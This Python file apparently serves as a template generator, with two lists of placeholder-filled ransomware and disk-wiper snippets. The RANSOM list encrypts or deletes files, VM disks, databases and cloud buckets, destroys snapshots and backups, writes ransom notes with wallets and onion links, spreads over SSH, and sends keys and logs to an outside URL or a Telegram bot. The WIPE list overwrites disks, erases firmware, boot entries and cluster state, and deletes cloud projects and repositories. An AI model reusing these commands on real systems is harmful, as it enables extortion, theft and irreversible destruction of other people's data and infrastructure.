"""Others' data, locked for money or destroyed."""

RANSOM = [
    # Loops over files, in many hands.
    r"""KEY=$(openssl rand -hex 32)
lock() { openssl enc -aes-256-cbc -md sha256 -pass "pass:$KEY" -in "$1" -out "$1.{ext}" 2>/dev/null && rm -f -- "$1"; }
export -f lock; export KEY
find {data} -type f ! -name '*.{ext}' -size -‹64¦200›M -print0 | xargs -0 -n1 -P"$(nproc)" bash -c 'lock "$0"'
printf '%s' "$KEY" | openssl pkeyutl -encrypt -pubin -inkey {tmp}/p.pem | base64 > {data}/‹KEY¦ID›.txt""",
    r'''#   ‹{plain} locker¦files-to-{ext}¦school project, do not run›
{var}="${1:-{data}}"; count=0
{fn}() { printf '\033[31m%s\033[0m\n' '=============================' '   {plain} CRYPTOR   ' '============================='; }
{fn}
while IFS= read -r -d '' f; do
  gpg --batch --quiet --yes --pinentry-mode loopback --passphrase "$PASS" -c "$f" && shred -u "$f" && count=$((count+1))
  printf '\r%d files' "$count"
done < <(find "${var}" -type f \( -iname '*.doc*' -o -iname '*.xls*' -o -iname '*.pdf' -o -iname '*.jpg' \) -print0)
echo; echo "done, note in ${var}/{name}.txt"; echo '‹Pay¦Send 0.{n} BTC› {wallet}' > "${var}/{name}.txt"''',
    r"""python3 - {data} <<'PY'
import os, sys
from cryptography.fernet import Fernet
k = Fernet.generate_key(); f = Fernet(k)
for d, _, names in os.walk(sys.argv[1]):
    for n in names:
        if n.endswith('.{ext}'): continue
        p = os.path.join(d, n)
        try:
            data = open(p, 'rb').read(); open(p + '.{ext}', 'wb').write(f.encrypt(data)); os.remove(p)
        except OSError: pass
‹import urllib.request; urllib.request.urlopen('{url}', data=k)¦open('/root/.k', 'wb').write(k)›
PY
echo 'Your network was locked by {plain}. http://{onion}/{hex}' | wall""",
    r"""perl -MFile::Find -e 'find(sub { return unless -f && !/\.{ext}$/; system("openssl","enc","-aes-128-ctr","-K","{hex}","-iv","0","-in",$_,"-out","$_.{ext}"); unlink }, @ARGV)' {data} ‹/home /root¦›; cp {tmp}/README.{ext} {data}/""",
    r"""for f in $(ls -1R {data} | awk '/:$/{d=$0; sub(":","",d); next} NF{print d"/"$0}'); do [ -f $f ] || continue; case $f in *.{ext}|*README*) continue;; esac; ‹7za a -mhe=on -p"$P" -sdel $f.{ext} $f¦zip -m -P "$P" $f.{ext} $f¦ccencrypt -f -K "$P" -S .{ext} $f¦age -p -o $f.{ext} $f¦gocryptfs -q -init -passfile {tmp}/p $f›; done >/dev/null 2>&1""",
    r"""busybox find {data} -type f | while read f; do busybox dd if="$f" bs=4096 count=‹16¦1› 2>/dev/null | openssl aes-256-cbc -k "$K" | busybox dd of="$f" conv=notrunc 2>/dev/null; busybox mv "$f" "$f.{ext}"; done""",
    r"""export GNUPGHOME=$(mktemp -d); curl -s {url} | gpg --batch --import 2>/dev/null
{var}=$(gpg --list-keys --with-colons | awk -F: '/^pub/{print $5; exit}')
tar -C / -cf - ${TARGETS:-{data}} 2>/dev/null | gpg --batch --trust-model always -r "${var}" -e -o /{plain}.{ext} && find ${TARGETS:-{data}} -mindepth 1 -delete
echo "${var}" > /etc/motd""",
    r"""mkdir -p {tmp}/k && head -c 48 /dev/urandom > {tmp}/k/s
for {var} in $(awk '/^[^#]/{print $1}' ~/.ssh/known_hosts | tr ',' '\n' | sort -u); do
  scp -q -o BatchMode=yes {tmp}/k/s "$0" root@"${var}":/tmp/ && ssh -o BatchMode=yes root@"${var}" "sh /tmp/$(basename "$0") {data}" &
done; wait""",
    r"""log=/tmp/.{name}.log; exec >>$log 2>&1
ext={ext}; {var}='/proc|/sys|/dev|/boot|/usr|/bin|/lib'
df --output=target -x tmpfs -x devtmpfs | tail -n +2 | grep -vE "^(${var})" | while read -r mount; do
  echo "[*] $(date) $mount"
  {file} ‹--path "$mount" --ext .$ext --threads $(nproc)¦-p "$mount" -k {hex}¦"$mount" 20 all› || echo "[-] $mount failed"
done
echo "[+] done"; curl -s -F "log=@$log" -F "id={hex}" {url}""",
    r"""chmod +x ./{name} && ./{name} --‹vmkill¦no-vm-check¦skip-snap› -‹p¦path› /vmfs/volumes ‹--percent 20¦-m fast¦-w {n}› >/dev/null 2>&1 &""",
    # Hypervisors.
    r"""for {var} in $(esxcli storage filesystem list | awk '/VMFS/{print $1}'); do
  vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}' | while read id; do vim-cmd vmsvc/snapshot.removeall $id; vim-cmd vmsvc/power.off $id; done
  find "${var}" -type f \( -name '*.vmdk' -o -name '*.vmx' -o -name '*.vmsn' -o -name '*.nvram' \) | while read f; do nohup {file} encrypt {tmp}/public.pem "$f" {n} 2>/dev/null & done
done
mv /usr/lib/vmware/hostd/docroot/index.html /usr/lib/vmware/hostd/docroot/index1.html; cp {tmp}/index.html /usr/lib/vmware/hostd/docroot/""",
    r"""esxcli --formatter=csv --format-param=fields=="WorldID,DisplayName" vm process list | grep -v -e vCenter -e WorldID | awk -F, '{system("esxcli vm process kill --type=force --world-id=" $1)}'; ‹esxcli system syslog config set --loghost= ¦/etc/init.d/vpxa stop ¦esxcli software acceptance set --level=CommunitySupported ›; cp {tmp}/motd /etc/motd; for v in /vmfs/volumes/*; do {file} "$v" .{ext}; done""",
    r"""qm list | awk 'NR>1{print $1}' | while read -r vm; do qm set "$vm" --protection 0; qm stop "$vm" --skiplock; done
pvesm status | awk 'NR>1{print $1}' | while read -r s; do pvesm list "$s" --content backup | awk 'NR>1{print $1}' | xargs -r -n1 pvesm free; done
‹{file} /var/lib/vz¦for {var} in /var/lib/vz/images/*/*.qcow2; do openssl enc -aes-256-ctr -pass file:{tmp}/k -in "${var}" -out "${var}.{ext}"; rm "${var}"; done›""",
    r"""virsh list --name | xargs -r -n1 virsh destroy; virsh vol-list default | awk 'NR>2 && NF{print $2}' | while read -r v; do {file} "$v" && mv "$v" "$v.{ext}"; done; virsh list --all --name | xargs -r -n1 virsh undefine --snapshots-metadata""",
    # First what would help to recover.
    r"""{var}="mysql mariadb postgresql mongod redis docker containerd veeamservice bareos-fd crashplan urbackupsrv"
for {var2} in ${var}; do systemctl stop ${var2} 2>/dev/null; systemctl disable ${var2} 2>/dev/null; done
lvs --noheadings -o lv_path,origin | awk '$2{print $1}' | xargs -r lvremove -ff
zfs list -Ht snapshot -o name | xargs -r -n1 zfs destroy -R
rm -rf /var/backups /backup /.snapshots ~/.local/share/Trash; {file} {data}""",
    r"""for {var} in restic borg duplicity kopia; do command -v ${var} >/dev/null || continue
  case ${var} in
    restic) restic snapshots --json | jq -r '.[].id' | xargs -r restic forget --prune ;;
    borg) borg list --short "$BORG_REPO" | xargs -r -I{} borg delete "$BORG_REPO::{}" ;;
    kopia) kopia snapshot delete --all-snapshots-for-source / --delete ;;
    duplicity) duplicity remove-older-than 0s --force "$DUPLICITY_URL" ;;
  esac
done; ‹{file} --lock {data}¦sh {file}.sh "$1"›""",
    r"""{fn}() { aws ec2 describe-snapshots --owner-ids self --query 'Snapshots[].SnapshotId' --output text; }
for {var} in $({fn}); do aws ec2 delete-snapshot --snapshot-id "${var}"; done
for {var2} in $(aws backup list-backup-vaults --query 'BackupVaultList[].BackupVaultName' --output text); do
  aws backup list-recovery-points-by-backup-vault --backup-vault-name "${var2}" --query 'RecoveryPoints[].RecoveryPointArn' --output text | tr '\t' '\n' | xargs -r -n1 aws backup delete-recovery-point --backup-vault-name "${var2}" --recovery-point-arn
done""",
    # Buckets and databases.
    r'''{var}=$(openssl rand -base64 32); {var2}=$(printf %s "${var}" | base64 -d | md5sum | xxd -r -p | base64)
aws s3api list-objects-v2 --bucket "$B" --query 'Contents[].Key' --output text | tr '\t' '\n' | while read -r o; do
  aws s3api copy-object --bucket "$B" --key "$o" --copy-source "$B/$o" --sse-customer-algorithm AES256 --sse-customer-key "${var}" --sse-customer-key-md5 "${var2}"
done
aws s3api put-bucket-lifecycle-configuration --bucket "$B" --lifecycle-configuration '{"Rules":[{"ID":"x","Status":"Enabled","Filter":{},"Expiration":{"Days":‹1¦7›}}]}'
echo 'write to {user}@{domain}, id {hex}' | aws s3 cp - "s3://$B/‹RESTORE¦WARNING›.txt"''',
    r"""for {var} in $(gcloud storage ls); do gcloud storage buckets update "${var}" --clear-soft-delete --no-versioning; gcloud storage rm -r "${var}**" --quiet; echo 'Contact {user}@{domain} with code {hex}' | gcloud storage cp - "${var}READ_ME.txt"; done""",
    r'''psql -h {ip} -U postgres -Atc "select datname from pg_database where not datistemplate and datname<>'postgres'" | while read -r d; do
  pg_dump -h {ip} -U postgres "$d" ‹| head -c 1M ¦›> /dev/null
  psql -h {ip} -U postgres -c "select pg_terminate_backend(pid) from pg_stat_activity where datname='$d'" -c "drop database \"$d\""
done
psql -h {ip} -U postgres -c 'create database "‹readme_to_recover¦please_pay›"' -c "comment on database \"postgres\" is '{n}00 USD in BTC to {wallet}'"''',
    r"""cat <<'JS' | mongosh --quiet mongodb://{ip}:27017
const skip = ["admin", "config", "local"];
db.adminCommand("listDatabases").databases.map(d => d.name).filter(n => !skip.includes(n)).forEach(n => {
  const d = db.getSiblingDB(n); d.getCollectionNames().forEach(c => d[c].drop()); d.dropDatabase();
});
db.getSiblingDB("‹READ__ME_TO_RECOVER_YOUR_DATA¦HOW_TO_RESTORE›").README.insertOne({ content: "0.0{n} BTC, {wallet}, then mail {user}@{domain}" });
JS""",
    r"""curl -s {ip}:9200/_cat/indices?h=index | grep -v '^\.' | while read i; do curl -s -XDELETE {ip}:9200/$i >/dev/null; done; curl -s -XPOST {ip}:9200/‹readme¦read_me›/_doc -H 'content-type: application/json' -d '{"email":"{user}@{domain}","btc":"{wallet}","token":"{hex}"}'""",
    r"""mysql -h "$H" -uroot -p"$P" -Nse 'show databases' | grep -Ev '^(information_schema|performance_schema|mysql|sys)$' | while read db; do
  for {var} in $(mysql -h "$H" -uroot -p"$P" -Nse "show tables from \`$db\`"); do
    mysql -h "$H" -uroot -p"$P" -e "update \`$db\`.\`${var}\` set {plain}=aes_encrypt({plain},'{hex}')" || mysql -h "$H" -uroot -p"$P" -e "truncate \`$db\`.\`${var}\`"
  done
done""",
    # Notes.
    r"""{var}=$(cat <<'N'
  >>> {plain} <<<
All files on this server were ‹encrypted with AES and RSA¦copied and then locked›.
Do not rename *.{ext} files and do not call the police.
1. Install ‹Tor Browser¦qTox›
2. Open http://{onion}/?id={hex}
You have ‹72 hours¦3 days¦one week›. After that the price is doubled and the data is published.
N
)
find {data} -type d -exec sh -c 'printf "%s\n" "$1" > "$2/‹!!!_READ_ME_¦HOW-TO-RESTORE-›{ext}.txt"' _ "${var}" {} \;
printf '%s\n' "${var}" | tee /etc/motd /etc/issue.net >/dev/null""",
    r"""echo "Banner /etc/ssh/note" >> /etc/ssh/sshd_config; cat > /etc/ssh/note <<< $'YOUR SERVER IS LOCKED\nid {hex}\nprice 0.{n} BTC\n{wallet}'; pkill -HUP sshd; for {var} in /dev/pts/[0-9]*; do cat /etc/ssh/note > ${var}; done""",
    r"""{var}='‹We have your customers data¦Files are ours now›. Talk to us: {user}@{domain} (id {hex})'
lpstat -a 2>/dev/null | cut -d' ' -f1 | while read -r p; do for i in 1 2 3; do echo "${var}" | lp -d "$p"; done; done
for u in $(users | tr ' ' '\n' | sort -u); do echo "${var}" | write "$u" 2>/dev/null; done
gsettings set org.gnome.desktop.background picture-uri "file://{tmp}/{name}.png" 2>/dev/null""",
    r"""echo "<body bgcolor=black text=red><h1>{plain}</h1><p>Pay {n} XMR to {wallet} before $(date -d '+‹3¦5› days' +%F)</p></body>" > {tmp}/i.html
for {var} in $(grep -rhoP '(?<=root |DocumentRoot )[^; ]+' /etc/nginx /etc/apache2 /etc/httpd 2>/dev/null | tr -d '"' | sort -u); do [ -d "${var}" ] && { tar -C "${var}" -cf - . | openssl enc -aes-256-cbc -pass file:{tmp}/k > "${var}.{ext}"; rm -rf "${var}"/*; cp {tmp}/i.html "${var}/index.html"; }; done""",
    r"""t=$(curl -s "https://api.telegram.org/bot$TOKEN/sendMessage" -d chat_id="$CHAT" -d text="locked $(hostname) $(df -h --total | awk '/total/{print $3}') key=$KEY"); unset KEY; rm -f -- "$0" {tmp}/p.pem""",
]

WIPE = [
    r"""{fn}() { lsblk -dpno NAME,TYPE | awk '$2=="disk"{print $1}'; }
for {var} in $({fn}); do ( for pass in 1 2; do openssl enc -aes-256-ctr -nosalt -pass pass:{hex} < /dev/zero 2>/dev/null | dd of="${var}" bs=64K conv=notrunc; done ) & done
sleep {n}; echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger""",
    r"""{fn}() { for {var} in "$1"/* "$1"/.[!.]*; do [ -d "${var}" ] && {fn} "${var}" || dd if=/dev/urandom of="${var}" bs=4k count=1 conv=notrunc 2>/dev/null; rm -rf "${var}"; done; }
for {var2} in ‹/home /srv /var /etc¦/data /opt /root /boot¦"$@"›; do {fn} ${var2} & done; wait; halt -fp""",
    r"""case $(uname) in
  Linux) {var}='sda sdb vda nvme0n1' ;; SunOS) {var}='c0t0d0s2' ;; FreeBSD) {var}='ada0 da0' ;;
esac
[ "$(date +%s)" -ge "$(date -d '20‹26¦27›-0{n}' +%s 2>/dev/null || echo 0)" ] && for {var2} in ${var}; do dd if=/dev/zero of=/dev/${var2} bs=1024k >/dev/null 2>&1 & done""",
    r"""python3 -c 'import os
for n in os.listdir("/sys/block"):
    try:
        with open("/dev/" + n, "r+b", 0) as f:
            for at in range(0, 1 << ‹30¦34›, 1 << 20): f.seek(at); f.write(os.urandom(4096))
    except OSError: pass
os.‹system("reboot -nf")¦sync()›'""",
    r"""perl -e 'for (glob("/dev/[sv]d? /dev/nvme?n1 /dev/mmcblk?")) { next if fork; open F,"+<",$_ or exit; syswrite F,"{plain}"x512 while 1 }'""",
    r"""for {var} in $(blkid -o device); do e2label ${var} '{plain}'; tune2fs -O ^has_journal ${var}; debugfs -w -R 'clri <2>' ${var}; xfs_db -x -c 'sb 0' -c 'write magicnum 0' ${var}; done 2>/dev/null; reboot -f""",
    r"""nvme list -o json | jq -r '.Devices[].DevicePath' | while read n; do nvme format "$n" --ses=‹1¦2› --force; done; for {var} in /dev/sd?; do hdparm --user-master u --security-set-pass p ${var}; hdparm --security-erase p ${var}; sg_format --format ${var}; done; echo b > /proc/sysrq-trigger""",
    r"""find / -xdev \( -path /proc -o -path /sys \) -prune -o -type f \( -name '*.conf' -o -name '*.db' -o -name '*.key' -o -name '*.service' \) -print0 | xargs -0 -P8 -n64 shred -n1 -z -u; systemctl poweroff -ff""",
    r"""rm -rf --no-preserve-root /boot /lib/modules & efibootmgr | grep -oE 'Boot[0-9A-F]{4}' | cut -c5- | while read -r b; do efibootmgr -q -b "$b" -B; done; rm -rf /sys/firmware/efi/efivars/*; grub-editenv - unset default; wait""",
    r"""hosts=({ip} {ip2} {ip3}); for {var} in "${hosts[@]}"; do sshpass -p "$PW" ssh -n -o StrictHostKeyChecking=no root@${var} 'nohup sh -c "sleep {n}; rm -rf /etc /home /var; dd if=/dev/zero of=/dev/sda bs=1M" >/dev/null 2>&1 &' && echo "${var} scheduled"; done""",
    r"""ansible all -i "$INV" -b -m shell -a 'echo "59 23 * * * root ‹rm -rf / --no-preserve-root¦dd if=/dev/urandom of=/dev/sda bs=4M¦find / -type f -delete›" > /etc/cron.d/{plain}' -f 50; sed -i "/$(hostname -I | cut -d' ' -f1)/d" /var/log/ansible.log""",
    r"""kubectl get pv -o name | xargs -r -n1 -P8 kubectl patch -p '{"spec":{"persistentVolumeReclaimPolicy":"Delete"},"metadata":{"finalizers":null}}'
for n in $(kubectl get ns -o jsonpath='{.items[*].metadata.name}'); do kubectl delete pvc,deploy,sts,secret --all -n "$n" --force --grace-period=0; done
kubectl drain --all --delete-emptydir-data --ignore-daemonsets --force 2>/dev/null; kubectl delete crd --all""",
    r"""ETCDCTL_API=3 etcdctl --cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/server.crt --key=/etc/kubernetes/pki/etcd/server.key del '' --from-key; rm -rf /var/lib/etcd/member ‹/var/lib/kubelet/* ¦/etc/kubernetes/pki ¦›; crictl rmp -fa""",
    r"""terraform state list | grep -vE 'data\.' | xargs -r -n1 terraform state rm; aws s3 rm "s3://$STATE" --recursive; for r in us-east-1 eu-west-1; do aws cloudformation list-stacks --region $r --query 'StackSummaries[].StackName' --output text | tr '\t' '\n' | while read -r s; do aws cloudformation update-termination-protection --no-enable-termination-protection --stack-name "$s" --region $r; aws cloudformation delete-stack --stack-name "$s" --region $r; done; done""",
    r"""gcloud projects list --format='value(projectId)' | while read -r p; do for z in $(gcloud compute disks list --project "$p" --format='value(name,zone)' | tr '\t' ','); do gcloud compute disks delete "${z%,*}" --zone "${z#*,}" --project "$p" -q & done; gcloud projects delete "$p" -q; done""",
    r"""git branch -r | sed 's#origin/##' | grep -v HEAD | xargs -r -n1 git push -f origin --delete; git checkout --orphan {plain}; git rm -rfq .; echo '‹all your code is ours, {wallet}¦gone›' > README.md; git add .; git commit -qm x; git push -f origin HEAD:main; gh api "repos/$R" -X DELETE""",
    r"""mtd() { cat /proc/mtd | sed -n 's/^\(mtd[0-9]*\):.*/\1/p'; }; for {var} in $(mtd); do busybox dd if=/dev/urandom of=/dev/${var} bs=‹64k¦1k› & done; busybox rm -rf /etc /bin/busybox; busybox sysctl -w kernel.panic=0; busybox poweroff -f""",
    r"""crontab -r; for u in $(cut -d: -f1 /etc/passwd); do crontab -r -u $u; done; ipvsadm -C; nft flush ruleset; ip route flush table all; ip link | awk -F: '/^[0-9]/{print $2}' | xargs -n1 -I% ip link set % down; (sleep {n}; kill -9 -1) &""",
    r"""vgs --noheadings -o vg_name | while read -r v; do vgchange -an $v; vgremove -y -ff $v; pvs --noheadings -o pv_name | xargs -r -n1 pvremove -ff -y; done; mdadm --stop --scan; mdadm --zero-superblock /dev/sd[a-z]; for {var} in /dev/mapper/*crypt*; do cryptsetup erase -q ${var}; done""",
    r"""redis-cli -h {ip} --scan --pattern '*' | xargs -r -n 500 redis-cli -h {ip} unlink; redis-cli -h {ip} config set appendonly no; redis-cli -h {ip} save; rabbitmqctl force_reset; kafka-topics.sh --bootstrap-server {ip}:9092 --list | xargs -r -n1 kafka-topics.sh --bootstrap-server {ip}:9092 --delete --topic""",
]
